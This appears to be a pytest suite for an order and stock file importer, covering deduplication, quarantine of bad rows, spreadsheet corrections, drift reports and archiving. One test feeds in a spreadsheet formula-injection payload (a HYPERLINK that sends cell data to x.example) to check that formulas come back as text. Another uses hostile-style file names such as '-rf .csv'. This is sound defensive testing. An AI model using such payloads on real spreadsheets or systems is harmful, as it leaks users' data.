"""Files dropped in the inbox: what is loaded, what is refused and why, and where each file ends."""

import gzip
from datetime import timedelta
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from inbox_run import (
    AS_OF,
    account,
    as_csv,
    column,
    files_of,
    furnish,
    movement,
    order,
    product,
    put,
    receive,
    rows,
    stock,
)
from sqlalchemy import Engine, insert, select

from tasks.inbox import delivered_files
from tasks.steps.receiving.receive_exports import read_site
from tasks.steps.receiving.report_drift import report_drift
from tasks.store.footprint import footprint
from tasks.store.ordering.allocations import promise
from tasks.store.schema import (
    allocations,
    carts,
    imports,
    kit_components,
    order_lines,
    orders,
    picks,
    products,
    quarantined_rows,
    stock_levels,
    stock_moves,
    stock_snapshots,
    waves,
)

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")  # Great Expectations' own

MORROW = AS_OF + timedelta(days=1)


def correct(path: Path, changes: dict[int, dict[str, str | int]], home: Path, kind: str) -> Path:
    """What a person does: open the sheet, write over cells of some rows (2 is the first), drop it in the inbox."""
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet is not None
    columns = {cell.value: number for number, cell in enumerate(sheet[1], start=1)}
    for number, change in changes.items():
        for name, value in change.items():
            sheet.cell(number, columns[name], value)
    target = home / "inbox" / kind / path.name
    book.save(target)
    return target


def sheets(home: Path, kind: str) -> list[Path]:
    """The quarantine sheets of a kind."""
    return sorted((home / "quarantine" / kind).glob("*.xlsx"))


# ── the same file again ──────────────────────────────────────────────────────────────────────────────────────────
def test_a_file_delivered_twice_is_taken_in_once(store: Engine, home: Path) -> None:
    """Under its own name or another, packed away each time, and no row of any table changes."""
    content = as_csv([order("#1"), order("#2"), order("#3", quantity=0)])
    put(home, "orders", content, "orders.csv")
    assert [one.state for one in receive()] == ["loaded"]
    with store.connect() as connection:
        before = footprint(connection)
    put(home, "orders", content, "orders.csv")
    put(home, "orders", content, "orders(1).csv")
    again = receive(MORROW)
    assert [(one.file_name, one.state) for one in again] == [("orders(1).csv", "seen"), ("orders.csv", "seen")]
    with store.connect() as connection:
        assert footprint(connection) == before
    assert list(files_of(home, "inbox")) == []
    assert list(files_of(home, "archive")) == [
        "archive/orders/2026-03-06/orders.csv",
        "archive/orders/2026-03-07/orders(1).csv",
        "archive/orders/2026-03-07/orders.csv",
    ]


def test_two_files_of_one_name_are_both_kept(store: Engine, home: Path) -> None:
    """The archive never writes one over the other."""
    for number in ("#1", "#2", "#2"):
        put(home, "orders", as_csv([order(number)]), "orders.csv")
        receive()
    kept = files_of(home, "archive")
    assert sorted(kept) == ["archive/orders/2026-03-06/orders-2.csv", "archive/orders/2026-03-06/orders.csv"]
    assert kept["archive/orders/2026-03-06/orders-2.csv"].decode() == as_csv([order("#2")])


def test_the_same_rows_in_another_file_change_nothing(store: Engine, home: Path) -> None:
    """An export that overlaps the last one loads what is new; the rest is unchanged."""
    put(home, "orders", as_csv([order("#1"), order("#2")]), "monday.csv")
    receive()
    put(home, "orders", as_csv([order("#2"), order("#3"), order("#3", 2)]), "tuesday.csv")
    [one] = receive(MORROW)
    assert (one.rows_in, one.rows_loaded, one.rows_unchanged) == (3, 2, 1)
    account(store)


# ── refused as a whole ───────────────────────────────────────────────────────────────────────────────────────────
MOSTLY_BAD = as_csv([order(f"#{n}", quantity=1 if n % 3 == 0 else "many") for n in range(300)])


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (as_csv([order("#1")]).splitlines()[0], "header and no rows"),
        (as_csv([order("#1")]).splitlines()[0] + "\n\n\n", "header and no rows"),
        ("", "empty"),
        (as_csv([order("#1"), order("#2", address1='1 "Mill" Lane')]).rpartition('"')[0], "never closed"),
        (gzip.compress(as_csv([order("#1")] * 40).encode(), mtime=0)[:-20], "cut off"),
        ("size,colour\nXL,red\n", "no known layout of orders"),
        (as_csv([stock("MUG", 3)]), "meant for the folder stock"),
        (MOSTLY_BAD, "200 of 300 rows (66.7 %) are bad; expected at most 50 %"),
    ],
    ids=["header", "header and blank lines", "empty", "cut off", "gzip cut off", "strange", "other folder", "bad"],
)
def test_a_file_not_to_be_believed_is_refused_whole(
    store: Engine, home: Path, content: str | bytes, reason: str
) -> None:
    """No row of it is loaded; it lies in the quarantine folder with the reason; and again the next day."""
    path = put(home, "orders", content, "orders.csv")
    delivered = path.read_bytes()
    [one] = receive(rules=None)
    assert one.state == "refused"
    assert reason in one.reason
    assert rows(store, orders).empty
    assert rows(store, quarantined_rows).empty
    assert rows(store, imports)[["state", "reason"]].to_numpy().tolist() == [["refused", one.reason]]
    left = files_of(home, "inbox", "archive", "quarantine")
    assert left["quarantine/orders/refused/orders.csv"] == delivered
    assert left["quarantine/orders/refused/orders.csv.reason.txt"].decode() == f"orders.csv: {one.reason}\n"
    assert len(left) == 2
    put(home, "orders", content, "orders.csv")
    [again] = receive(MORROW, rules=None)
    assert (again.state, again.reason) == ("refused", one.reason)
    assert len(rows(store, imports)) == 1
    assert files_of(home, "inbox", "archive", "quarantine") == left


def test_a_refused_file_may_come_again_when_the_world_has_changed(store: Engine, home: Path) -> None:
    """Stock of products nobody has heard of is refused; after the products came the same file is loaded."""
    furnish(home, [f"SKU-{n}" for n in range(5)])
    lines = as_csv([stock(f"SKU-{n}", n) for n in range(120)])
    put(home, "stock", lines, "stock.csv")
    assert [one.state for one in receive(rules=None)] == ["loaded", "loaded", "refused"]
    put(home, "products", as_csv([product(f"SKU-{n}") for n in range(120)]), "all products.csv")
    put(home, "stock", lines, "stock.csv")
    assert [one.state for one in receive(MORROW)] == ["loaded", "loaded"]
    assert column(store, imports, "state") == ["loaded"] * 4
    account(store)


# ── bad rows ─────────────────────────────────────────────────────────────────────────────────────────────────────
def test_bad_rows_wait_with_every_reason_and_the_rest_loads(store: Engine, home: Path) -> None:
    """Row number, raw text, and each field: what was found and what was expected."""
    lines = as_csv([
        order("#1"), order("#2", quantity="1,234", currency="£"), order("#3"), order("#4", merchant="NOBODY"),
    ]).splitlines()  # fmt: skip
    lines.insert(3, "ragged,row")
    put(home, "orders", "\n".join(lines), "orders.csv")
    [one] = receive()
    assert (one.rows_in, one.rows_loaded, one.rows_quarantined) == (5, 2, 3)
    account(store)
    waiting = rows(store, quarantined_rows).set_index("row_number")
    assert waiting["reasons"].to_dict() == {
        3: "currency: found '£', expected a currency code such as GBP; "
        "quantity: found '1,234', expected a whole number, at least 1, at most 1,000,000",
        4: "row: found 2 cells, expected 12",
        6: "merchant: found 'NOBODY', expected one of HEARTH",
    }
    assert waiting["raw"].to_dict() == {3: lines[2], 4: "ragged,row", 6: lines[5]}
    assert column(store, quarantined_rows, "subject") == ["#2", "ragged", "#4"]
    assert sorted(rows(store, orders)["order_number"]) == ["#1", "#3"]


def test_what_only_the_database_can_refuse_waits_too(store: Engine, home: Path) -> None:
    """An unknown SKU, an unknown place, a warehouse nobody configured: each row with its own text."""
    furnish(home)
    put(home, "stock", as_csv([
        stock("MUG", 3), stock("GHOST", 1), stock("MUG", 1, "Z-99"), stock("VASE", 1, warehouse="Paris"),
    ]), "stock.csv")  # fmt: skip
    one = receive()[-1]
    assert (one.rows_in, one.rows_loaded, one.rows_quarantined) == (4, 1, 3)
    waiting = rows(store, quarantined_rows).set_index("row_number")["reasons"].to_dict()
    assert waiting == {
        3: "sku: found 'GHOST', expected a SKU of the products received",
        4: "location: found 'Z-99', expected a location of the warehouse",
        5: "warehouse: found 'Paris', expected a configured warehouse",
    }
    account(store)


def test_a_sku_twice_in_a_file_counts_once(store: Engine, home: Path) -> None:
    """Equal rows are unchanged; rows that contradict the first are refused, and say which row that was."""
    furnish(home)
    receive()
    put(home, "stock", as_csv([stock("MUG", 3), stock("MUG", 3), stock("MUG", 4), stock("VASE", 1)]), "stock.csv")
    [one] = receive()
    assert (one.rows_loaded, one.rows_unchanged, one.rows_quarantined) == (2, 1, 1)
    assert column(store, quarantined_rows, "reasons") == [
        "lot: found again with other values than in row 2, expected once per file"
    ]
    assert column(store, stock_levels, "on_hand") == [3, 1]
    account(store)


@pytest.mark.both_databases
def test_an_order_line_twice_in_a_file_is_ordered_once(store: Engine, home: Path) -> None:
    """The first stands; another that says otherwise waits, and its order with it."""
    put(home, "orders", as_csv([order("#1"), order("#1"), order("#2"), order("#2", quantity=5)]))
    [one] = receive()
    assert (one.rows_loaded, one.rows_unchanged, one.rows_quarantined) == (2, 1, 1)
    assert column(store, order_lines, "quantity_ordered") == [1, 1]
    assert column(store, orders, "hold_reason") == [None, "incomplete"]


def test_a_kit_of_a_refused_kit_is_refused(store: Engine, home: Path) -> None:
    """No kit is made of parts that are not there, however deep."""
    put(home, "products", as_csv([
        product("SET", components="BOX:1|MUG:2"), product("BOX", components="LID:1"), product("MUG"),
        product("PAIR", components="MUG:2"),
    ]))  # fmt: skip
    [one] = receive()
    assert one.rows_quarantined == 2
    assert sorted(rows(store, products)["sku"]) == ["MUG", "PAIR"]
    assert len(rows(store, kit_components)) == 1


# ── corrected and dropped back ───────────────────────────────────────────────────────────────────────────────────
def test_a_corrected_row_loads_and_lets_its_order_go(store: Engine, home: Path) -> None:
    """The sheet says why; corrected in it and dropped in the inbox the row loads and waits no more."""
    put(home, "orders", as_csv([order("#1"), order("#1", 2, sku="VASE", quantity="two"), order("#2")]), "orders.csv")
    receive()
    assert column(store, orders, "hold_reason") == ["incomplete", None]
    [sheet] = sheets(home, "orders")
    shown = openpyxl.load_workbook(sheet).active
    assert shown is not None
    said = dict(zip(*([cell.value for cell in row] for row in shown.iter_rows(max_row=2)), strict=True))
    assert said["quarantine_reasons"] == "quantity: found 'two', expected a whole number, at least 1, at most 1,000,000"
    assert (said["order_number"], said["quantity"], said["quarantine_row"]) == ("#1", "two", 3)
    correct(sheet, {2: {"quantity": 2}}, home, "orders")
    [one] = receive(MORROW)
    assert (one.state, one.rows_in, one.rows_loaded) == ("loaded", 1, 1)
    closed = rows(store, quarantined_rows)
    assert closed[["state", "corrected_by_import_id"]].to_numpy().tolist() == [["corrected", one.import_id]]
    assert column(store, order_lines, "quantity_ordered") == [1, 2, 1]
    assert column(store, orders, "hold_reason") == [None, None]
    account(store)


def test_a_row_corrected_wrongly_waits_once_more(store: Engine, home: Path) -> None:
    """It waits as a row of the new sheet, not of both; corrected there, nothing waits and nothing is held."""
    put(home, "orders", as_csv([order("#1"), order("#1", 2, quantity="two")]), "orders.csv")
    receive()
    correct(sheets(home, "orders")[0], {2: {"quantity": "zwei"}}, home, "orders")
    receive(MORROW)
    assert column(store, quarantined_rows, "state") == ["corrected", "open"]
    assert column(store, orders, "hold_reason") == ["incomplete"]
    [_, second] = sheets(home, "orders")
    correct(second, {2: {"quantity": 2}}, home, "orders")
    receive(MORROW)
    assert column(store, quarantined_rows, "state") == ["corrected", "corrected"]
    assert column(store, orders, "hold_reason") == [None]
    account(store)


def test_a_row_that_fits_no_header_holds_its_order(store: Engine, home: Path) -> None:
    """Shipped without the line that could not be read, the order would be short."""
    lines = as_csv([order("#1"), order("#1", 2), order("#2")]).splitlines()
    lines[2] += ",one cell too many"
    put(home, "orders", "\n".join(lines), "orders.csv")
    receive()
    assert column(store, orders, "hold_reason") == ["incomplete", None]


def test_what_a_spreadsheet_put_around_an_order_number_is_not_part_of_it(store: Engine, home: Path) -> None:
    """The row is refused, yet the order it belongs to is known."""
    put(home, "orders", as_csv([order("1001"), order('="1001"', 2, quantity="two")]), "orders.csv")
    receive()
    assert column(store, orders, "hold_reason") == ["incomplete"]


def test_formulas_in_a_file_come_back_as_text(store: Engine, home: Path) -> None:
    """Nothing a customer typed is ever run by the spreadsheet it is corrected in."""
    evil = '=HYPERLINK("http://x.example?"&A1,"click")'
    put(home, "orders", as_csv([order("#1", customer_name=evil, address1="+1", quantity="@SUM(1)")]), "orders.csv")
    receive()
    [sheet] = sheets(home, "orders")
    shown = openpyxl.load_workbook(sheet).active
    assert shown is not None
    cells = [cell for row in shown.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert not any(cell.hyperlink for cell in cells)
    assert evil in {cell.value for cell in cells}


def test_a_cell_too_long_for_a_spreadsheet_is_shown_as_far_as_it_goes(store: Engine, home: Path) -> None:
    """The sheet can be opened, with control characters and all; the whole text is in the database."""
    long = "x" * 40_000 + "\x00\x07"
    put(home, "orders", as_csv([order("#1", customer_name=long), order("#2")]), "orders.csv")
    receive()
    [sheet] = sheets(home, "orders")
    shown = openpyxl.load_workbook(sheet).active
    assert shown is not None
    assert max(len(str(cell.value)) for cell in shown[2]) == 32_767
    [raw] = rows(store, quarantined_rows)["raw"]
    assert "x" * 40_000 in raw


# ── stock ────────────────────────────────────────────────────────────────────────────────────────────────────────
def test_the_first_stock_export_opens_the_ledger(store: Engine, home: Path) -> None:
    """One opening move a place, dated as the export; 0 units need none, fewer than none are kept as such."""
    furnish(home)
    put(home, "stock", as_csv([stock("MUG", 5), stock("MUG", 0, "A-02"), stock("VASE", -2)]), "stock.csv")
    receive()
    moves = rows(store, stock_moves)
    assert moves[["quantity", "kind"]].to_numpy().tolist() == [[5, "opening"], [-2, "opening"]]
    assert set(moves["effective_at"]) == {pd.Timestamp("2026-03-06T06:00:00Z")}
    assert column(store, stock_levels, "on_hand") == [5, -2]
    assert column(store, stock_snapshots, "on_hand") == [5, -2, 0]
    assert not (home / "outgoing" / "receive-exports").exists()


def test_a_later_export_is_a_second_opinion(store: Engine, home: Path) -> None:
    """It moves nothing; where it and the ledger of its moment disagree is reported by place, and in value."""
    furnish(home)
    put(home, "stock", as_csv([stock("MUG", 5), stock("VASE", 7)]), "stock.csv")
    put(home, "movements", as_csv([
        movement(1, -1), movement(2, 3, occurred_at="2026-03-06 12:00:00 +0000"),
    ]), "moves.csv")  # fmt: skip
    receive()
    before = column(store, stock_moves, "quantity")
    at = "2026-03-06 08:00:00 +0000"
    put(home, "stock", as_csv([
        stock("MUG", 4, snapshot_at=at), stock("VASE", 2, snapshot_at=at), stock("VASE", 4, "A-02", snapshot_at=at),
    ]), "later.csv")  # fmt: skip
    receive()
    assert column(store, stock_moves, "quantity") == before
    [report] = (home / "outgoing" / "receive-exports").rglob("drift.csv")
    told = pd.read_csv(report)[["location", "sku", "ledger", "export", "drift", "value", "currency", "file"]]
    assert told.to_numpy().tolist() == [
        ["A-01", "VASE", 7, 2, -5, -25.0, "GBP", "later.csv"],
        ["A-02", "VASE", 0, 4, 4, 20.0, "GBP", "later.csv"],
    ]
    assert report_drift.fn().empty, "nobody is told twice"


def test_a_run_that_died_before_its_drift_report_leaves_it_to_the_next(
    store: Engine, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Under the moment of the run that took the export in, and the file is the same as if it had not died."""
    furnish(home)
    put(home, "stock", as_csv([stock("MUG", 5)]), "stock.csv")
    receive()
    put(home, "stock", as_csv([stock("MUG", 4, snapshot_at="2026-03-06 08:00:00 +0000")]), "later.csv")
    with monkeypatch.context() as crash:
        crash.setattr(Path, "replace", _power_cut)
        with pytest.raises(OSError, match="power cut"):
            receive(MORROW)
    assert not (home / "outgoing" / "receive-exports").exists()
    receive(MORROW + timedelta(days=1))
    [report] = (home / "outgoing" / "receive-exports").rglob("drift.csv")
    assert report.parent.name == f"{MORROW:%Y%m%dT%H%M%SZ}"
    assert pd.read_csv(report)[["sku", "drift"]].to_numpy().tolist() == [["MUG", -1]]


def _power_cut(*_: object) -> None:
    raise OSError("power cut")


def test_an_older_export_changes_nothing(store: Engine, home: Path) -> None:
    """What was said later of a place stands."""
    furnish(home)
    put(home, "stock", as_csv([stock("MUG", 5)]), "stock.csv")
    receive()
    put(home, "stock", as_csv([stock("MUG", 9, snapshot_at="2026-03-05 06:00:00 +0000")]), "older.csv")
    [one] = receive()
    assert (one.rows_loaded, one.rows_unchanged) == (0, 1)
    assert column(store, stock_snapshots, "on_hand") == [5]


def test_a_movement_is_posted_once(store: Engine, home: Path) -> None:
    """Told again it is unchanged; told otherwise, of any fact, it is refused; units of nothing move nothing."""
    furnish(home)
    put(home, "movements", as_csv([movement(1, 5), movement(2, 0), movement(3, 2), movement(4, 1)]), "moves.csv")
    one = receive()[-1]
    assert (one.rows_loaded, one.rows_quarantined) == (3, 1)
    put(home, "movements", as_csv([
        movement(1, 5), movement(3, 3), movement(4, 1, sku="VASE"), movement(5, 1),
    ]), "again.csv")  # fmt: skip
    [again] = receive(MORROW)
    assert (again.rows_loaded, again.rows_unchanged, again.rows_quarantined) == (1, 1, 2)
    assert column(store, stock_moves, "quantity") == [5, 2, 1, 1]
    account(store)


# ── names, folders, documents ────────────────────────────────────────────────────────────────────────────────────
def test_a_file_still_being_written_is_left(store: Engine, home: Path) -> None:
    """A hidden file, a spreadsheet's lock and a part of a download are not taken in, nor moved."""
    for name in (".orders.csv", "~$orders.xlsx", "orders.csv.part", "orders.csv.crdownload"):
        put(home, "orders", as_csv([order("#1")]), name)
    before = files_of(home, "inbox")
    assert receive() == []
    assert files_of(home, "inbox") == before


@pytest.mark.parametrize("name", ["o" * 250 + ".csv", "\udcff\udcfe.csv", "a\nb.csv", "..csv", "-rf .csv", "<b>&.csv"])
@pytest.mark.parametrize("content", [as_csv([order("#1"), order("#2", quantity="x")]), "no,table\n1,2\n"])
def test_any_file_name_will_do(store: Engine, home: Path, name: str, content: str) -> None:
    """Long, without letters, with bytes that are no text: the file is taken in or refused, and put away."""
    if name.startswith("."):
        name = f"x{name}"
    put(home, "orders", content, name)
    [one] = receive()
    assert one.state == ("loaded" if content.startswith("order") else "refused")
    assert files_of(home, "inbox") == {}
    assert content.encode() in files_of(home, "archive", "quarantine").values()


def test_the_merchants_clock_and_the_folder_are_those_of_the_file(store: Engine, home: Path) -> None:
    """A time without a zone is London's, which is an hour ahead in July."""
    assert [one.code for one in read_site.fn().merchants] == ["HEARTH"]
    path = put(home, "orders", as_csv([order("#1", created_at="2026-07-01 12:00:00", paid_at="")]), "HEARTH/orders.csv")
    assert path.parent.name == "HEARTH"
    receive(AS_OF + timedelta(days=130))
    assert column(store, orders, "created_at") == [pd.Timestamp("2026-07-01T11:00:00Z")]
    assert column(store, imports, "source") == ["HEARTH"]


def test_no_customer_is_named_in_the_documents(store: Engine, home: Path) -> None:
    """Data Docs speak of rules and shares; names, addresses and e-mails stay in the database and the quarantine."""
    bad = order("#2", email="john.roe@mail", customer_name="John Roe", address1="2 Elm Row", quantity="x")
    put(home, "orders", as_csv([order("#1"), bad, order("#3", currency="John Roe")]), "orders.csv")
    receive(rules=None)
    documents = files_of(home, "reports")
    assert any(name.endswith(".html") for name in documents)
    for content in documents.values():
        for name in (b"Jane", b"John", b"Mill Lane", b"Elm Row", b"mail.example", b"john.roe"):
            assert name not in content


def test_a_gate_never_lets_the_rows_be_lost(store: Engine, home: Path) -> None:
    """Every file of a mixed inbox is accounted for, and lies in the archive or the quarantine folder."""
    furnish(home)
    put(home, "stock", as_csv([stock("MUG", 3), stock("GHOST", 1)]), "stock.csv")
    put(home, "orders", as_csv([order("#1"), order("#2", sku="")]), "orders.csv")
    put(home, "orders", "nothing", "note.txt")
    put(home, "movements", as_csv([movement(1, 1)]), "moves.csv")
    outcomes = receive()
    assert sorted(one.state for one in outcomes) == ["loaded"] * 5 + ["refused"]
    assert sum(one.rows_in for one in outcomes) == sum(
        one.rows_loaded + one.rows_unchanged + one.rows_quarantined for one in outcomes
    )
    account(store)
    assert files_of(home, "inbox") == {}


def test_goods_that_left_are_promised_no_more(store: Engine, home: Path) -> None:
    """A movement that takes promised units gives the newest promises back; what was picked it may not take."""
    furnish(home)
    put(home, "stock", as_csv([stock("MUG", 5), stock("VASE", 2)]))
    put(home, "orders", as_csv([order("#1", quantity=3), order("#2", quantity=2), order("#3", sku="VASE", quantity=2)]))
    receive()
    lines = rows(store, order_lines).merge(rows(store, products)[["id", "sku"]], on="sku")
    lines = lines.merge(rows(store, stock_levels), left_on="id", right_on="product_id")
    with store.begin() as connection:
        asked = lines.rename(columns={"quantity_ordered": "quantity"})
        promise(connection, asked, asked, AS_OF)
        vase = connection.scalar(select(allocations.c.id).where(allocations.c.order_id == 3))
        connection.execute(insert(waves).values(id=1, warehouse_id=1, code="W-1", released_at=AS_OF))
        connection.execute(insert(carts).values(id=1, wave_id=1, number=1))
        picked = {"quantity": 2, "quantity_picked": 2, "state": "picked", "picked_at": AS_OF}
        connection.execute(insert(picks).values(cart_id=1, stop_number=1, allocation_id=vase, **picked))
    put(home, "movements", as_csv([movement(1, -3), movement(2, -1, sku="VASE"), movement(3, 1)]), "moves.csv")
    [one] = receive(MORROW)
    assert (one.rows_loaded, one.rows_quarantined) == (2, 1)
    assert column(store, quarantined_rows, "reasons") == [
        "quantity: found '-1', expected to leave the units picked there"
    ]
    levels = rows(store, stock_levels)
    assert levels[["on_hand", "allocated"]].to_numpy().tolist() == [[3, 3], [2, 2]]
    assert column(store, order_lines, "quantity_allocated") == [3, 0, 2]
    account(store)


@pytest.mark.parametrize("again", [False, True])
def test_a_file_in_many_blocks_is_loaded_like_one_in_a_single_block(
    store: Engine, home: Path, monkeypatch: pytest.MonkeyPatch, again: bool
) -> None:
    """Orders whose lines lie blocks apart, rows at fault on every border; new, and over what is known."""
    numbers = [f"#{n % 97}" for n in range(600)]
    lines = [order(number, n // 97 + 1, quantity=n % 50 or "none", email=f"{n}@mail.example")
             for n, number in enumerate(numbers)]  # fmt: skip
    text = as_csv(lines).splitlines()
    text[100::100] = ["torn"] * len(text[100::100])
    if again:
        put(home, "orders", as_csv([order("#1"), order("#5", 3)]), "before.csv")
        receive()
    monkeypatch.setattr(delivered_files, "READ_BYTES", 4_096)
    monkeypatch.setattr(delivered_files, "BLOCK_BYTES", 10_000)
    put(home, "orders", "\n".join(text), "orders.csv")
    [one] = receive()
    assert (one.rows_in, one.rows_quarantined) == (600, 18)
    account(store)
    for table in (order_lines, orders, quarantined_rows):
        assert len(rows(store, table)) == {order_lines: 582 + again, orders: 97, quarantined_rows: 18}[table]
    firsts = {number: f"{n}@mail.example" for n, number in reversed([*enumerate(numbers)]) if n % 50 and n % 100 != 99}
    if not again:
        said = rows(store, orders).set_index("order_number")["email"].to_dict()
        assert said == firsts


def test_a_file_whose_good_rows_say_no_moment_is_loaded(store: Engine, home: Path) -> None:
    """The only moment is in a row that is refused: the delivery has no age, and that is no fault of it."""
    furnish(home)
    put(home, "stock", as_csv([stock("MUG", 5, snapshot_at=""), stock("VASE", "many")]), "stock.csv")
    one = receive()[-1]
    assert (one.state, one.rows_loaded, one.rows_quarantined) == ("loaded", 1, 1)
    assert column(store, stock_snapshots, "snapshot_at") == [pd.Timestamp(AS_OF)]


def test_the_order_of_dates_is_that_of_the_whole_file(
    store: Engine, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The last rows say that the day comes first, so it does in the first ones, read long before."""
    monkeypatch.setattr(delivered_files, "BLOCK_BYTES", 10_000)
    monkeypatch.setattr(delivered_files, "READ_BYTES", 10_000)
    said = ["03/04/2026 09:00"] * 300 + ["25/02/2026 09:00"]
    put(home, "orders", as_csv([order(f"#{n}", created_at=at, paid_at=at) for n, at in enumerate(said)]))
    assert [one.rows_loaded for one in receive()] == [301]
    assert set(column(store, orders, "created_at")) == {
        pd.Timestamp("2026-04-03 08:00", tz="UTC"), pd.Timestamp("2026-02-25 09:00", tz="UTC"),
    }  # fmt: skip


def test_dates_in_both_orders_wait_unless_they_can_only_be_read_in_one(
    store: Engine, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file that puts the day first here and last there says nothing of its other dates, wherever they stand."""
    monkeypatch.setattr(delivered_files, "BLOCK_BYTES", 10_000)
    monkeypatch.setattr(delivered_files, "READ_BYTES", 10_000)
    said = ["25/02/2026 09:00"] * 150 + ["03/04/2026 09:00"] + ["02/25/2026 09:00"] * 150
    put(home, "orders", as_csv([order(f"#{n}", created_at=at, paid_at=at) for n, at in enumerate(said)]))
    receive()
    assert set(column(store, orders, "created_at")) == {pd.Timestamp("2026-02-25 09:00", tz="UTC")}
    assert column(store, quarantined_rows, "subject") == ["#150"]


def test_a_bulk_load_leaves_the_planner_its_statistics(
    store: Engine, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On PostgreSQL, of the tables that grew; otherwise the next query is planned for empty ones."""
    if store.dialect.name != "postgresql":
        pytest.skip("SQLite plans by its indexes")
    monkeypatch.setattr("tasks.store.database.engine.STATISTICS_FROM_ROWS", 50)
    put(home, "orders", as_csv([order(f"#{n}") for n in range(60)]))
    receive()
    with store.connect() as connection:
        known = connection.exec_driver_sql("SELECT relname, reltuples FROM pg_class WHERE relkind = 'r'").all()
    assert {name: count for name, count in known if name in {"orders", "order_lines", "shipments"}} == {
        "orders": 60, "order_lines": 60, "shipments": -1,
    }  # fmt: skip


def test_an_order_over_several_blocks_is_one_order(store: Engine, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every line is its own, and what its first row says of it, that the shop had sent it, holds for the last one."""
    monkeypatch.setattr(delivered_files, "BLOCK_BYTES", 10_000)
    monkeypatch.setattr(delivered_files, "READ_BYTES", 10_000)
    sent = {"fulfilled_at": "2026-03-06 10:00:00 +0000"}
    lines = [order("#sent", n, **(sent if n == 1 else {})) for n in range(1, 201)] + [order("#open")]
    put(home, "orders", as_csv([order("#before"), *lines]))
    receive()
    found = rows(store, order_lines).merge(rows(store, orders), left_on="order_id", right_on="id")
    assert found.groupby("order_number")["quantity_shipped"].agg(["size", "sum"]).to_dict("index") == {
        "#before": {"size": 1, "sum": 0}, "#sent": {"size": 200, "sum": 200}, "#open": {"size": 1, "sum": 0},
    }  # fmt: skip
    put(home, "orders", as_csv([order("#after")]), "next.csv")
    receive()
    assert column(store, orders, "order_number") == ["#before", "#sent", "#open", "#after"]


def test_a_known_order_at_the_end_of_a_long_file_of_new_ones_is_merged(
    store: Engine, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What was written of the new ones before it turned up does not stay twice; the known one is brought up to date."""
    monkeypatch.setattr(delivered_files, "BLOCK_BYTES", 1_500)
    monkeypatch.setattr(delivered_files, "READ_BYTES", 1_500)
    put(home, "orders", as_csv([order("#known"), order("#other")]))
    receive()
    new = [order(f"#{n}") for n in range(300)]
    put(home, "orders", as_csv([*new, order("#known", quantity=3)]), "long.csv")
    (outcome,) = receive()
    assert (outcome.rows_in, outcome.rows_loaded, outcome.rows_unchanged) == (301, 301, 0)
    assert set(column(store, orders, "order_number")) == {"#known", "#other", *(f"#{n}" for n in range(300))}
    assert rows(store, order_lines)["quantity_ordered"].value_counts().to_dict() == {1: 301, 3: 1}
    put(home, "orders", as_csv([order(f"#later {n}") for n in range(10)]), "later.csv")
    assert receive()[0].rows_loaded == 10
    assert rows(store, orders)["id"].is_unique


def test_a_file_larger_than_the_installation_allows_is_refused(
    home: Path, store: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """FULFILMENT_FILE_BYTES_MAX is looked at before the file is read; the file waits with both sizes in its reason."""
    monkeypatch.setenv("FULFILMENT_FILE_BYTES_MAX", "40")
    content = as_csv([order("#1")])
    put(home, "orders", content, "orders.csv")
    [refused] = receive()
    assert refused.state == "refused"
    assert f"{len(content.encode()):,} bytes, more than 40" in str(refused.reason)
